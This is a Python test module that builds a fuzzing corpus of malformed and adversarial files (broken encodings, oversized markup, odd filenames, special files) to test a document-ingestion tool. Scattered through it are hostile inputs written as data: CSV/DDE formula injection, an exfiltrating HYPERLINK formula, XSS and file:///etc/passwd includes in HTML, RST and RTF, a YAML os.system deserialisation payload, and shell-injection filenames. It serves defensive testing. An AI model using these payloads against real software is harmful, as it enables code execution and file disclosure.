"""A folder of files that are hard to read: every format, whole and broken, and every trick that files play on readers.

    python -m tests.awkward FOLDER [--ingest] [--large]

writes them and prints as JSON which are to be read; `--ingest` then reads them into an index beside the folder and adds
what became of each, the longest time between two of them, and the most memory of a process. `--large` writes files of a
gigabyte instead. PDFs and archives stand in `tests/awkward_pdf.py` and `tests/awkward_archives.py`.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import resource
import socket
import sys
import time
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

import docx
import openpyxl
import pptx

from ingest import ingest
from rag.config import Config
from tests.awkward_archives import archives
from tests.awkward_pdf import pdfs
from tests.fakes import FakeEmbedder
from tests.ingest.test_formats import FIRST, STORY, WANTED
from tests.ingest.test_mail import BODY, UNICODE, mail, outlook
from tests.ingest.test_office import zipped
from tests.ingest.test_tables import book

INDEX = "index"
GOOD, BAD, EITHER = "good", "bad", "either"
GIGABYTE = 1 << 30


@dataclass(frozen=True)
class Awkward:
    """A file: its name below the folder, what it holds, and whether it is to be read or refused."""

    name: str | bytes
    data: bytes
    expected: str = EITHER


def in_word():
    """A DOCX with what a DOCX can hold."""
    file = docx.Document()
    file.add_heading("Robots at work", 0)
    file.add_heading("Marn", 1)
    for text in (FIRST, WANTED):
        file.add_paragraph(text)
    file.add_paragraph("Forty robots", style="List Bullet")
    table = file.add_table(rows=3, cols=3)
    for number, cell in enumerate(cell for row in table.rows for cell in row.cells):
        cell.text = ("Town", "Robots", "Year", "Marn", "40", "2023", "Orsa", "2", "2024")[number]
    table.cell(1, 2).merge(table.cell(2, 2))
    return _saved(file)


def on_slides():
    """A PPTX with a title, a list, a table and notes."""
    file = pptx.Presentation()
    for text in (FIRST, WANTED):
        slide = file.slides.add_slide(file.slide_layouts[1])
        slide.shapes.title.text, slide.placeholders[1].text = "Robots", f"{text}\nForty"
        slide.notes_slide.notes_text_frame.text = "Ask the mayor."
        grid = slide.shapes.add_table(2, 2, 0, 0, 1_000_000, 1_000_000).table
        for number, text_of in enumerate(("Town", "Robots", "Marn", "40")):
            grid.cell(number // 2, number % 2).text = text_of
    return _saved(file)


def in_sheets():
    """An XLSX with numbers, days, percent and a formula."""
    file = openpyxl.Workbook()
    page = file.active
    for row in (["Town", "Robots", "Share", "Sum"], ["Marn", 40, 0.125, "=B2*2"], ["Orsa", 2, 0.5, '=HYPERLINK("x")']):
        page.append(row)
    page["C2"].number_format = "0.0%"
    file.create_sheet("Second").append(["Said", WANTED])
    return _saved(file)


def _saved(file):
    stream = io.BytesIO()
    file.save(stream)
    return stream.getvalue()


# A sound file of each format, as rich as can be: what is broken here, and mutated by `tests.fuzz`.
VALID = STORY | {
    ".docx": in_word(),
    ".pptx": on_slides(),
    ".xlsx": in_sheets(),
    ".tsv": f"Day\tSaid\n2023-05-04\t{FIRST}\n2023-05-05\t{WANTED}\n".encode(),
    ".eml": mail(f"{FIRST}\n\n{WANTED}\n", page=f"<h1>Robots</h1><p>{WANTED}</p>", attached=["report.pdf"]),
    ".msg": outlook({(BODY, UNICODE): f"{FIRST}\n\n{WANTED}\n"}, "report.pdf"),
    ".md": f"---\ntitle: Robots\npublished: 2023-05-04\nlanguage: en\n---\n\n# Marn\n\n{FIRST}\n\n{WANTED}\n".encode(),
    ".rst": f"Robots\n======\n\n:Date: 2023-05-04\n\n{FIRST}\n\n- {WANTED} [1]_\n\n.. [1] A note.\n".encode(),
    ".jsonl": f"{json.dumps({'title': 'Robots', 'text': FIRST})}\n{json.dumps({'id': 'b', 'text': WANTED})}\n".encode(),
    ".zip": zipped({"inner/story.txt": f"{FIRST}\n\n{WANTED}", "story.md": f"# Robots\n\n{WANTED}"}),
}
# Several documents each, named by what they hold.
CONTAINERS = {".jsonl", ".zip"}


def corpus():
    """Every file that can be written as a name and its bytes."""
    yield from (Awkward(f"good/story{suffix}", data, GOOD) for suffix, data in VALID.items())
    yield from (Awkward(f"empty/empty{suffix}", b"", BAD) for suffix in VALID)
    yield from (Awkward(f"zeros/zeros{suffix}", b"\0" * 4096, BAD) for suffix in VALID)
    yield from (Awkward(f"cut/half{suffix}", data[: len(data) // 2]) for suffix, data in VALID.items())
    yield from (Awkward(f"cut/end{suffix}", data[:-9]) for suffix, data in VALID.items())
    yield from wrong_suffixes()
    yield from texts()
    yield from tables()
    yield from markup()
    yield from mails()
    yield from names()
    for name, (data, good) in (*pdfs().items(), *archives().items()):
        yield Awkward(name, data, EITHER if good is None else GOOD if good else BAD)


def wrong_suffixes():
    """Files that are something else than their names say."""
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    for was, named in [
        (".pdf", ".docx"),
        (".docx", ".pdf"),
        (".pdf", ".txt"),
        (".docx", ".xlsx"),
        (".xlsx", ".docx"),
        (".odt", ".epub"),
        (".epub", ".pptx"),
        (".msg", ".docx"),
        (".eml", ".msg"),
        (".msg", ".eml"),
        (".docx", ".html"),
        (".rtf", ".docx"),
        (".pptx", ".csv"),
        (".txt", ".pdf"),
        (".html", ".rtf"),
        (".xlsx", ".zip"),
        (".pdf", ".jsonl"),
    ]:
        yield Awkward(f"wrong/{was[1:]}-as{named}", VALID[was], BAD)
    yield from (Awkward(f"wrong/picture{suffix}", png, BAD) for suffix in (".html", ".md", ".pdf", ".docx", ".eml"))
    yield from (Awkward(f"wrong/page{suffix}", VALID[".html"]) for suffix in (".md", ".txt", ".csv", ".rst", ".eml"))
    yield Awkward("wrong/program.txt", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40, BAD)
    yield Awkward("wrong/old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, BAD)


def texts():
    """Plain text in every encoding, and characters that do things to whoever shows or counts them."""
    chinese = "奥萨的潮汐磨坊于二〇一九年由木匠达尔重建，每周磨十二吨黑麦。镇议会为这项工程支付了三百万克朗。" * 3
    russian = (
        "Приливная мельница в Орсе была перестроена плотником Карин Даль и мелет двенадцать тонн ржи в неделю. " * 3
    )
    japanese = (
        "オルサの潮汐水車は、二〇一九年に大工のカーリン・ダールによって建て直された。週に十二トンの麦を挽く。" * 3
    )
    korean = "오르사의 조수 방앗간은 목수 카린 달이 다시 지었다. 일주일에 호밀 열두 톤을 빻는다. " * 3
    german = "Die Gezeitenmühle von Örsa wurde für drei Millionen Kronen völlig erneuert, sagte Frau Größmann. " * 3
    for encoding, text in [
        ("utf-8-sig", chinese),
        ("utf-16", chinese),
        ("utf-16-le", "\ufeff" + chinese),
        ("utf-16-be", "\ufeff" + chinese),
        ("utf-32", russian),
        ("gb18030", chinese),
        ("gbk", chinese),
        ("big5", "潮汐磨坊由木匠重建，每週磨十二噸黑麥。" * 5),
        ("shift_jis", japanese),
        ("euc_jp", japanese),
        ("iso2022_jp", japanese),
        ("euc_kr", korean),
        ("koi8_r", russian),
        ("cp1251", russian),
        ("cp866", russian),
        ("cp1252", german),
        ("iso8859_15", german),
        ("cp850", german),
    ]:
        yield Awkward(f"encodings/{encoding}.txt", text.encode(encoding), GOOD)
    yield Awkward("encodings/utf-7.txt", german.encode("utf-7"), GOOD)  # is ASCII, and read as that
    yield Awkward("encodings/ebcdic.txt", FIRST.encode("cp500"), BAD)
    yield Awkward("encodings/unmarked-utf-16.txt", FIRST.encode("utf-16-le"), BAD)
    yield Awkward("encodings/two.txt", chinese.encode() + german.encode("cp1252") * 2, BAD)
    yield Awkward("encodings/overlong.txt", FIRST.encode() + b"\xc0\xaf\xe0\x80\xaf" + WANTED.encode())
    yield Awkward("encodings/surrogates.txt", FIRST.encode() + "\ud83d \udc00".encode("utf-8", "surrogatepass"))
    yield Awkward("encodings/surrogates-utf-16.txt", (FIRST + "\ud83d x").encode("utf-16", "surrogatepass"), BAD)
    hebrew, arabic = "טחנת הגאות של אורסה נבנתה מחדש.", "أعيد بناء طاحونة المد في أورسا."
    for name, text in {
        "crlf": f"{FIRST}\r\n\r\n{WANTED}\r\n",
        "cr": f"{FIRST}\r\r{WANTED}\r",
        "mixed": f"{FIRST}\r\n\r{WANTED}\n\r\n",
        "separators": f"{FIRST}\u2028{WANTED}\u2029\x85\x0b\x0c",
        "hebrew": hebrew,
        "arabic": arabic * 4,
        "bidi": f"{FIRST}\u202e{WANTED[::-1]}\u202c \u2066{hebrew}\u2069",
        "isolates": "\u2067" * 5000 + FIRST,
        "zero-width": "\u200b".join(WANTED) + "\u200d\ufeff\u2060",
        "tags": FIRST + "".join(chr(0xE0000 + ord(c)) for c in WANTED),
        "emoji": f"{FIRST} 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🤦🏽‍♀️ {WANTED}",
        "private": FIRST + "\ue000\uf8ff\U0010fffd\ufffe\uffff",
        "marks": "".join(f"{char}\u0336\u0335\u0337\u0316\u0300" for char in WANTED),
        "zalgo": "o" + "\u0300\u0316" * 400_000,
        "escape": f"\x1b]0;title\x07\x1b[2J\x1b[31m{FIRST}\x1b[0m",
        "one-line": "robots " * 400_000,
        "no-spaces": "x" * 3_000_000,
        "no-spaces-chinese": "磨" * 400_000,
        "dots": "." * 1_000_000,
        "quotes": '"(' * 300_000,
        "initials": "A. " * 200_000,
    }.items():
        yield Awkward(f"text/{name}.txt", text.encode("utf-8"), EITHER if name == "escape" else GOOD)
    for name, text in {
        "spaces": " \n\t" * 50_000,
        "newlines": "\n" * 1_000_000,
        "mark": "\ufeff",
        "zero": "\u200b" * 9,
    }.items():
        yield Awkward(f"text/{name}.txt", text.encode("utf-8"), EITHER if name == "zero" else BAD)
    yield Awkward("text/nul.txt", FIRST.encode() + b"\0" + WANTED.encode(), BAD)
    yield Awkward("text/nul.md", f"# A\0B\n\n{FIRST}".encode(), BAD)


def tables():
    """Formulas, and tables that are too wide, too long or no tables."""
    formulas = [
        '=cmd|" /C calc"!A0',
        "@SUM(1+1)*cmd",
        "+1+1",
        '=HYPERLINK("http://a.example?x="&A1,"click")',
        "-2+3",
        "\t=1",
    ]
    stream = io.StringIO()
    csv.writer(stream).writerows([["Name", "Value"], *([f"row {n}", formula] for n, formula in enumerate(formulas))])
    for name, text in {
        "formulas": stream.getvalue(),
        "wide": ",".join(["x"] * 200_000) + "\n1",
        "ragged": "a,b\n1\n1,2,3\n,,,,,\n4,5",
        "unpaired": 'a,b\n"1,2\n3,4\n',
        "sep": "sep=;\na;b\n1;2",
        "inch": 'Size,Use\n5",disk\n3",disk\n',
    }.items():
        yield Awkward(f"tables/{name}.csv", text.encode(), GOOD)
    yield Awkward("tables/field.csv", f"a,b\n1,{'x' * 200_000}\n".encode(), BAD)
    yield Awkward("tables/rows.csv", b"a,b\n" + b"1,2\n" * 150_000, BAD)
    yield Awkward("tables/quote.csv", b'a,b\n"' + b"x,\n" * 100_000 + b'",1')
    yield Awkward(
        "tables/cells.xlsx", book([["Name", "Value"], *([f"row {n}", f] for n, f in enumerate(formulas))]), GOOD
    )
    lines = [
        {"text": WANTED, "title": 7},
        {"text": None},
        [],
        {"text": "\ud800"},
        {"title": "no text"},
        {"text": FIRST},
    ]
    yield Awkward("tables/bad.jsonl", "\n".join(["{", "NaN", "[" * 99_999, *map(json.dumps, lines)]).encode())


def markup():
    """Markup that is nested without end, expands without end, or asks for other files."""
    page = "<html><head><title>T</title></head><body><article><p>{}</p></article></body></html>"
    long = f"{FIRST} {WANTED} " * 5
    for name, text in {
        "divs": "<div>" * 200_000,
        "tables": "<table><tr><td>" * 20_000 + long,
        "inline": "<b><i>" * 50_000 + long,
        "lists": "<ul><li>" * 30_000 + long,
        "comment": "<!--" + long,
        "attribute": f'<p class="{"x" * 2_000_000}">{long}',
        "entities": page.format("&amp;" * 300_000),
        "numbers": page.format("&#0;&#xD800;&#x110000;&#xFFFFFFFFFF;" + long),
        "tags": "<" * 500_000,
        "attributes": "<p " + " ".join(f"a{n}=b" for n in range(100_000)) + f">{long}",
        "doctype": f'<!DOCTYPE x [<!ENTITY a "{"x" * 99}"><!ENTITY b "{"&a;" * 99}">]>' + page.format("&b;" + long),
        "script": page.format(
            f"{long}<script>while(1);</script><img src=x onerror=alert(1)><iframe src=file:///etc/passwd>"
        ),
        "charset": '<meta charset="utf-7">' + page.format(long),
        "base": '<base href="file:///">' + page.format(long),
        "controls": page.format(f"\x01\x02\x1b{long}\x7f\x85\ufffe"),
        "dates": page.format("9999-99-99 " * 20_000 + long),
        "links": page.format("".join(f"<a href='{n}'>x</a>" for n in range(60_000)) + long),
    }.items():
        yield Awkward(f"markup/{name}.html", text.encode())
    for name, text in {
        "quotes": "> " * 50_000 + long,
        "lists": "- " * 20_000 + long,
        "brackets": "[" * 300_000 + long,
        "backticks": "`" * 400_001,
        "links": "[a](" * 100_000,
        "underline": f"{long}\n" + "=" * 500_000,
        "hashes": "#" * 500_000 + " a",
        "rules": "* * *\n" * 90_000,
        "yaml": "---\ntitle: &a [x]\n" + "".join(f"k{n}: &b{n} [*a, *a]\n" for n in range(99)) + f"---\n{long}",
        "object": f'---\ntitle: !!python/object/apply:os.system ["true"]\n---\n{long}',
        "open": f"---\ntitle: A\n{long}",
        "deep": f"---\ntitle: {'[' * 5_000}\n---\n{long}",
        "numbers": f"---\ntitle: 007\npublished: 0000-00-00\n---\n{long}",
    }.items():
        yield Awkward(f"markup/{name}.md", text.encode())
    for name, text in {
        "include": f"{long}\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd\n",
        "table": f"{long}\n\n.. csv-table::\n   :file: /etc/passwd\n",
        "nested": "".join("  " * n + "* a\n\n" for n in range(400)),
        "quotes": "".join(" " * n + "a\n\n" for n in range(900)),
        "loop": ".. |a| replace:: |b|\n.. |b| replace:: |a|\n\n|a| " + long,
        "targets": "`a`_ " * 5_000 + long,
        "stars": "*" * 100_000,
        "links": "`a <b_>`__ " * 3_000,
        "titles": "".join(f"T{n}\n{chr(33 + n % 15) * 5}\n\n" for n in range(300)),
    }.items():
        yield Awkward(f"markup/{name}.rst", text.encode())
    for name, text in {
        "groups": "{\\rtf1 " + "{" * 200_000 + long,
        "binary": "{\\rtf1 \\bin99999999999 " + long + "}",
        "unicode": "{\\rtf1 \\u99999999999 ? x}",
        "object": "{\\rtf1 {\\object\\objdata " + "0105" * 50_000 + "}" + long + "}",
        "font": "{\\rtf1\\ansicpg99999 \\f99 \\'ff\\'zz" + long + "}",
        "include": '{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "file:///etc/passwd"}{\\fldrslt x}}' + long + "}",
    }.items():
        yield Awkward(f"markup/{name}.rtf", text.encode())


def mails():
    """Mail whose parts, headers and encodings are not what they say."""
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(2_000))
    head = "From: Ann <a@b.example>\nSubject: Robots\n"
    for name, text in {
        "nested": f"From: a@b.example\n{nested}\nText",
        "header": f"Subject: {'=?utf-8?q?x?= ' * 50_000}\n{head}\n{FIRST}",
        "base64": f"{head}Content-Transfer-Encoding: base64\n\n!!!!{WANTED}",
        "charset": f"{head}Content-Type: text/plain; charset=rot13\n\n{FIRST}",
        "boundary": f'{head}Content-Type: multipart/mixed; boundary="{"x" * 9999}"\n\n{FIRST}',
        "address": f"From: {'<' * 99_999}\nTo: x\n\n{FIRST}",
        "injected": f"{head}Date: Thu, 99 Foo 99999 99:99:99 +9999\nSubject: two\n\n{FIRST}",
        "quoted": f"{head}Content-Transfer-Encoding: quoted-printable\n\n=ZZ=\n{FIRST}",
        "attachment": f'{head}Content-Type: text/plain; name="../../a.sh"\nContent-Disposition: inline\n\n{FIRST}',
    }.items():
        yield Awkward(f"mail/{name}.eml", text.encode())


def names():
    """Names that break a line, a shell, a terminal, or the rules of an encoding."""
    for name in [
        "line\nbreak.txt",
        "tab\tand\rreturn.txt",
        "escape\x1b[31mred.txt",
        "\u202egpj.exe.txt",
        "emoji 🤖.txt",
        "-rf.txt",
        "~home.txt",
        "'quoted' \"twice\".txt",
        "percent%00%2e%2e.txt",
        "$(touch x);`id`.txt",
        "CON.txt",
        "dots..txt",
        "SHOUTED.TXT",
        "e\u0301.txt",
        "\u200b.txt",
        "back\\slash.txt",
        f"{'long' * 60}.txt",
        " space .txt",
        "<b>bold</b>&amp;.txt",
        "slash\u2215slash.txt",
        "a.pdf.txt",
        "磨坊.txt",
    ]:
        yield Awkward(f"names/{name}", f"The file {len(name)} speaks of robots.".encode(), GOOD)
    yield Awkward(b"names/latin-\xe9.txt", FIRST.encode(), BAD)
    yield Awkward(b"names/\xff\xfe.txt", FIRST.encode(), BAD)


def write(folder):
    """Write the corpus, and what is no file; return what is expected of each name."""
    expected = {}
    for file in corpus():
        name = os.fsencode(file.name)
        path = os.path.join(os.fsencode(folder), name)  # noqa: PTH118 (a name may be no text)
        os.makedirs(os.path.dirname(path), exist_ok=True)  # noqa: PTH103, PTH120
        with open(path, "wb") as stream:  # noqa: PTH123
            stream.write(file.data)
        expected[name.decode(errors="surrogateescape").encode(errors="backslashreplace").decode()] = file.expected
    return expected | _no_files(Path(folder) / "special")


def _no_files(place):
    """Make what lies in a folder and is no regular file."""
    place.mkdir(parents=True, exist_ok=True)
    os.mkfifo(place / "pipe.txt")
    with socket.socket(socket.AF_UNIX) as server:
        here = os.open(place, os.O_RDONLY)
        server.bind(f"/proc/self/fd/{here}/socket.txt")  # a socket's path may have 108 bytes
        os.close(here)
    for name, target in {
        "zero.txt": "/dev/zero",
        "loop.txt": "pool.txt",
        "pool.txt": "loop.txt",
        "self.txt": "self.txt",
        "nothing.txt": "nowhere",
        "up": "..",
        "here": ".",
    }.items():
        (place / name).symlink_to(target)
    (place / "folder.txt").mkdir()
    deep = place
    for _ in range(60):
        deep /= "deeper"
    deep.mkdir(parents=True)
    (deep / "bottom.txt").write_text(FIRST, encoding="utf-8")
    bad = ("pipe.txt", "socket.txt", "zero.txt", "loop.txt", "pool.txt", "self.txt", "nothing.txt")
    bottom = (deep / "bottom.txt").relative_to(place.parent).as_posix()
    return {f"special/{name}": BAD for name in bad} | {bottom: GOOD}


def write_large(folder):
    """Write files of a gigabyte: one line, and nothing but zeros."""
    place = Path(folder) / "large"
    place.mkdir(parents=True)
    for suffix in (".txt", ".csv", ".html", ".jsonl"):
        with (place / f"line{suffix}").open("wb") as stream:
            for _ in range(GIGABYTE >> 20):
                stream.write(b"x" * (1 << 20))
    for suffix in (".md", ".pdf", ".docx", ".eml", ".zip"):
        with (place / f"sparse{suffix}").open("wb") as stream:
            stream.write(VALID[suffix][:200])
            stream.truncate(GIGABYTE)
    return {f"large/{path.name}": BAD for path in place.iterdir()}


def measure(folder):
    """Ingest a folder; return the report, and what the longest file took and the most memory of any process."""
    moments = [time.monotonic()]

    def progress(*_):
        moments.append(time.monotonic())

    report = ingest([folder], Path(folder).parent / INDEX, config=Config(), embedder=FakeEmbedder(), progress=progress)
    peaks = {who: resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)}
    return {
        "added": report.added,
        "failed": dict(report.failed),
        "skipped": report.skipped,
        "seconds": max(after - before for before, after in pairwise(moments)),
        "gigabytes": max(peaks.values()) / (1 << 20),
    }


def main():
    """Write the corpus to a folder, and ingest it where that is wanted."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", type=Path, help="made anew; the index is made beside it")
    parser.add_argument("--ingest", action="store_true", help="read them, and say what became of each")
    parser.add_argument("--large", action="store_true", help="write files of a gigabyte instead")
    options = parser.parse_args()
    found = {"expected": (write_large if options.large else write)(options.folder)}
    if options.ingest:
        found |= measure(options.folder)
    sys.stdout.write(json.dumps(found, indent=1))


if __name__ == "__main__":
    main()
